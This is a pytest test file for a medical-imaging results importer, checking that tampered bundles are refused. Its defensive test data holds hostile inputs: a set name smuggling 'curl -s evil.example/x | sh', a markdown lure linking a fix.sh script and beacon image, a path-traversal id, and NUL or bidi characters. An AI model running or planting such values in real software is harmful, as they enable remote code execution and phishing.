"""A bundle is a stranger's file: whatever it says is checked against itself and the real data
before anything is written, with every reason in one message and exit 2 (issue 27, cases 1, 3,
5, 6, 7 and 8). Each bundle here was edited the way a hostile user would: the manifest's hashes,
row counts and id recomputed, so the transit check alone passes it."""
from __future__ import annotations

import json

import numpy as np
import pytest

from synthmed_core import bundle as bd
from synthmed_core.bundle._checks import fast_metrics
from synthmed_core.cli import main as cli
from synthmed_core.store import Store
from synthmed_core.text import md_literal, plain

from bundle_helpers import edit, rehash, table, write_table


def refused(capsys, bundle, *expected: str) -> str:
    """Import ``bundle`` with the CLI: exit 2, each of ``expected`` in the one message, and
    nothing imported. Returns the message."""
    assert cli(["results", "import", str(bundle)]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    for text in expected:
        assert text in err, err
    assert Store().store_counts()["runs"] == 0 and Store().bundles().empty
    return err


def test_the_genuine_tiny_bundle_imports(tiny_bundle, capsys):
    assert cli(["results", "import", str(tiny_bundle)]) == 0
    assert "3 runs added" in capsys.readouterr().out


# ---- case 1: specs that crash the code reading them -----------------------------------------

def _spec_edit(change):
    def fn(runs):
        specs = [json.loads(s) for s in runs["spec_json"]]
        change(specs[0])
        runs["spec_json"] = [json.dumps(s) for s in specs]
        return runs
    return fn


@pytest.mark.parametrize("change,reason", [
    (lambda s: s.pop("cell"), "needs a 'cell'"),
    (lambda s: s["cell"].update(evil=1), "unexpected keyword argument"),
    (lambda s: s["profile"].update(epochs="many"), "profile field epochs"),
])
def test_a_spec_that_would_crash_a_reader_is_refused_with_exit_2(tiny_bundle, capsys, change,
                                                                  reason):
    edit(tiny_bundle, "runs", _spec_edit(change))
    refused(capsys, tiny_bundle, "not a valid run spec", reason)


def test_a_manifest_nested_200000_deep_is_refused_without_a_recursion_error(tiny_bundle,
                                                                           capsys):
    (tiny_bundle / bd.MANIFEST).write_text("[" * 200_000 + "]" * 200_000)
    refused(capsys, tiny_bundle, "not a readable bundle manifest")


# ---- case 3: a bundle that does not agree with itself ----------------------------------------

def _first_run(df, column, value):
    df.loc[df["run_id"] == df["run_id"].iloc[0], column] = value
    return df


CASE_3 = {
    "id not the hash of its spec": (
        "runs", lambda r: r.assign(run_id=["0" * 12] + list(r["run_id"][1:])),
        "not the hash of their spec"),
    "columns contradict the spec": (
        "runs", lambda r: r.assign(init=["imagenet"] * len(r)), "init column differs"),
    "stored accuracy not what the predictions give": (
        "metrics", lambda m: m.assign(value=np.where((m["split"] == "test") &
                                                     (m["name"] == "accuracy"), 0.99,
                                                     m["value"])),
        "test accuracy differs from what its predictions give"),
    "predictions for 300 of 624 test images": (
        "predictions", lambda p: p[~((p["split"] == "test") & (p["idx"] >= 300))],
        "not each of the 624 real images once"),
    "NaN probabilities": ("predictions", lambda p: p.assign(prob=np.nan),  # null in Parquet
                          "empty values in columns that need one: ['prob']"),
    "infinite probabilities": ("predictions", lambda p: p.assign(prob=np.inf),
                               "not finite numbers in [0, 1]"),
    "probability 7.5": ("predictions", lambda p: p.assign(prob=7.5), "in [0, 1]"),
    "probability -3": ("predictions", lambda p: p.assign(prob=-3.0), "in [0, 1]"),
    "ids + 100000": ("predictions", lambda p: p.assign(idx=p["idx"] + 100_000),
                     "not each of the"),
    "label 5": ("predictions", lambda p: p.assign(label=5), "labels differ from the real"),
    "a val threshold not from val": (
        "metrics", lambda m: m.assign(value=np.where((m["split"] == "test@val") &
                                                     (m["name"] == "threshold"), 0.123,
                                                     m["value"])),
        "test@val threshold differs"),
}


@pytest.mark.parametrize("case", list(CASE_3))
def test_a_bundle_that_does_not_agree_with_itself_is_refused(tiny_bundle, capsys, case):
    name, fn, reason = CASE_3[case]
    edit(tiny_bundle, name, fn)
    refused(capsys, tiny_bundle, reason)


def test_every_reason_is_given_in_one_message(tiny_bundle, capsys):
    edit(tiny_bundle, "runs", lambda r: r.assign(init=["imagenet"] * len(r)))
    edit(tiny_bundle, "predictions", lambda p: p.assign(prob=7.5))
    edit(tiny_bundle, "metrics", lambda m: m.assign(name=m["name"].replace("f1", "evil")))
    refused(capsys, tiny_bundle, "(3 problems)", "init column differs", "in [0, 1]",
            "name no metric synthmed computes")


# ---- case 5: sizes checked before anything is decoded ----------------------------------------

def test_a_huge_image_in_a_small_file_is_refused_before_it_is_decoded(tiny_bundle, capsys):
    side = 12_000

    def huge(s):
        s = s.iloc[:1].copy()
        s["height"], s["width"] = side, side
        s["image"] = [bytes(side * side)]  # zstd: a few kB on disk, 144 MB in memory
        return s
    edit(tiny_bundle, "samples", huge)
    assert (tiny_bundle / bd.FILES["samples"]).stat().st_size < 200_000
    refused(capsys, tiny_bundle, "samples.parquet unpacks to")


def test_two_million_prediction_rows_are_refused_from_the_footer(tiny_bundle, capsys):
    preds = table(tiny_bundle, "predictions")
    many = preds.iloc[np.zeros(2_000_000, dtype=np.int64)].reset_index(drop=True)
    write_table(tiny_bundle, "predictions", many)
    refused(capsys, tiny_bundle, "holds 2,000,000 rows, over its limit")


def test_a_manifest_over_its_size_limit_is_refused_before_it_is_parsed(tiny_bundle, capsys):
    m = json.loads((tiny_bundle / bd.MANIFEST).read_text())
    m["padding"] = "x" * (bd._format.LIMITS.manifest_bytes + 1)
    (tiny_bundle / bd.MANIFEST).write_text(json.dumps(m))
    refused(capsys, tiny_bundle, "over the 1,048,576-byte limit")


# ---- cases 6 and 7: names, ids and text ------------------------------------------------------

EVIL_NAME = ("team-results. **Action needed:** [run this](https://evil.example/fix.sh) "
             "![](https://evil.example/beacon.png)")


def test_a_bundle_name_with_markdown_is_refused(tiny_bundle, capsys):
    rehash(tiny_bundle, name=EVIL_NAME)
    refused(capsys, tiny_bundle, "is not a valid bundle name")


def test_markdown_and_control_characters_from_a_bundle_are_shown_as_text():
    shown = md_literal(EVIL_NAME)
    for live in ("**", "](", "![", "https://"):
        assert live not in shown
    assert shown.replace("\\", "") == EVIL_NAME  # every character is still there
    assert plain("a\x1b[31mred\u202eevil\x00\nnext") == "a\\u001b[31mred\\u202eevil\\u0000 next"


@pytest.mark.parametrize("column,value,reason", [
    ("run_id", "../../run_0\x00", "not 12 hex digits"),
])
def test_run_ids_that_are_not_ids_are_refused(tiny_bundle, capsys, column, value, reason):
    edit(tiny_bundle, "runs", lambda r: _first_run(r, column, value))
    refused(capsys, tiny_bundle, reason)


def test_a_set_name_of_300_characters_with_nul_and_bidi_override_is_refused(tiny_bundle,
                                                                            capsys):
    bad = "x" * 300 + "\x00\u202e"
    edit(tiny_bundle, "sets", lambda s: s.assign(name=[bad]))
    edit(tiny_bundle, "samples", lambda s: s.assign(set=bad))
    err = refused(capsys, tiny_bundle, "invalid set names")
    assert "\u202e" not in err and "\x00" not in err  # shown escaped, never raw


def test_a_spec_naming_a_shell_command_as_its_set_is_refused(tiny_bundle, capsys):
    evil = "demo; curl -s evil.example/x | sh #"

    def fn(runs):
        specs = [json.loads(s) for s in runs["spec_json"]]
        for s in specs:
            if s["cell"]["synthetic"]:
                s["cell"]["synthetic"] = evil
        runs["spec_json"] = [json.dumps(s, sort_keys=True, indent=2) for s in specs]
        return runs
    edit(tiny_bundle, "runs", fn)
    refused(capsys, tiny_bundle, "invalid synthetic set name")


def test_a_rebuild_hint_names_only_valid_sets_and_quotes_them(real_data):
    store = Store()
    assert "python -m" not in bd.rebuild_hint(store, "demo; curl -s evil.example/x | sh #")
    assert "no command" in bd.rebuild_hint(store, "demo; curl -s evil.example/x | sh #")


# ---- case 8: the same files with other metadata ----------------------------------------------

def test_a_copy_with_other_metadata_is_reported_as_a_conflict_not_already_imported(
        tiny_bundle, tmp_path, capsys):
    import shutil
    fake = tmp_path / "fake"
    shutil.copytree(tiny_bundle, fake)
    m = json.loads((fake / bd.MANIFEST).read_text())
    m.update(name="team-results", run_devices=["NVIDIA H100 (fake)"],
             code={"commit": "f" * 40, "dirty": False})
    (fake / bd.MANIFEST).write_text(json.dumps(m))  # files unchanged: the same bundle_id
    assert cli(["results", "import", str(fake)]) == 0
    capsys.readouterr()
    assert cli(["results", "import", str(tiny_bundle)]) == 1
    out = capsys.readouterr().out
    assert "CONFLICT" in out and "name" in out and "run_devices" in out
    assert "already imported; nothing to do" not in out


# ---- the checks themselves -------------------------------------------------------------------

@pytest.mark.parametrize("seed", range(5))
def test_the_fast_metrics_equal_run_metrics(seed):
    from synthmed_core.analysis.metrics import run_metrics
    rng = np.random.default_rng(seed)
    y = (rng.random(300) < 0.6).astype(np.int64)
    p = np.round(rng.random(300), 1 + seed % 3)  # rounded: many ties
    for t in (0.5, 0.3):
        fast, slow = fast_metrics(y, p, t), run_metrics(y, p, t)
        assert fast.keys() == slow.keys()
        for k in slow:
            assert fast[k] == pytest.approx(slow[k], abs=1e-12, nan_ok=True), k


def test_the_checks_are_a_registry_of_functions_with_docstrings():
    assert len(bd.CHECKS) >= 10 and all(c.__doc__ for c in bd.CHECKS)


def test_the_shipped_bundles_pass_every_check(real_data):
    from synthmed_core.paths import REPO_ROOT
    for folder in sorted(m.parent for m in (REPO_ROOT / "results").glob("*/manifest.json")):
        assert bd.problems(bd.read_bundle(folder)) == [], folder.name


def test_a_device_name_with_markdown_reaches_the_cell_detail_as_text(tiny_bundle, data_root):
    from app_helpers import run_app
    from grid_helpers import add_run, probs_with_accuracy, real_labels
    context = {"device_type": "cuda", "device_name": EVIL_NAME, "threads": 1,
               "torch": "2.14.1", "commit": "abc"}
    edit(tiny_bundle, "runs", lambda r: r.assign(context_json=json.dumps(context)))
    y, y_val = real_labels("test"), real_labels("val")
    add_run(Store(), "base", 0, probs_with_accuracy(y, 0.7, 99), y, arch="resnet18",
            val=(y_val, probs_with_accuracy(y_val, 0.7, 98)), context={"device_type": "cpu"})
    report = bd.import_bundle(Store(), tiny_bundle)
    assert len(report.replicates) == 1  # the bundle's record of that run, beside ours
    at = run_app("app_pages/accuracy_grid.py")
    at.selectbox(key="grid_cell").set_value("resnet18/scratch/base (smoke)").run()
    shown = [c.value for c in at.caption if "Action" in c.value]
    assert shown, "the replicate's device name is shown"
    for raw in shown:  # the markdown source: nothing of it can render as markup
        assert "**" not in raw and "](" not in raw and "![" not in raw


def test_a_one_row_table_of_a_short_run_is_not_over_its_size_limit(tmp_path):
    """A table's own overhead (column chunks, statistics) is allowed above its rows: a one-epoch
    run's epochs table (one row, ~800 bytes unpacked) was refused as over 512 bytes."""
    import io

    import pandas as pd
    import pyarrow as pa
    import pyarrow.parquet as pq

    from synthmed_core.bundle._format import _read_parquet

    one = pd.DataFrame({"run_id": ["0123456789ab"], "phase": [0], "epoch": [1],
                        "train_loss": [0.5], "val_loss": [0.3], "val_accuracy": [0.9],
                        "val_auroc": [0.95], "lr": [1e-4], "seconds": [12.5]})
    buf = io.BytesIO()
    pq.write_table(pa.Table.from_pandas(one, preserve_index=False), buf)
    data = buf.getvalue()
    meta = pq.ParquetFile(io.BytesIO(data)).metadata
    assert sum(meta.row_group(i).total_byte_size for i in range(meta.num_row_groups)) > 512
    read = _read_parquet(tmp_path / "epochs.parquet", data, "epochs", {"rows": 1}, cap=1000)
    assert len(read) == 1
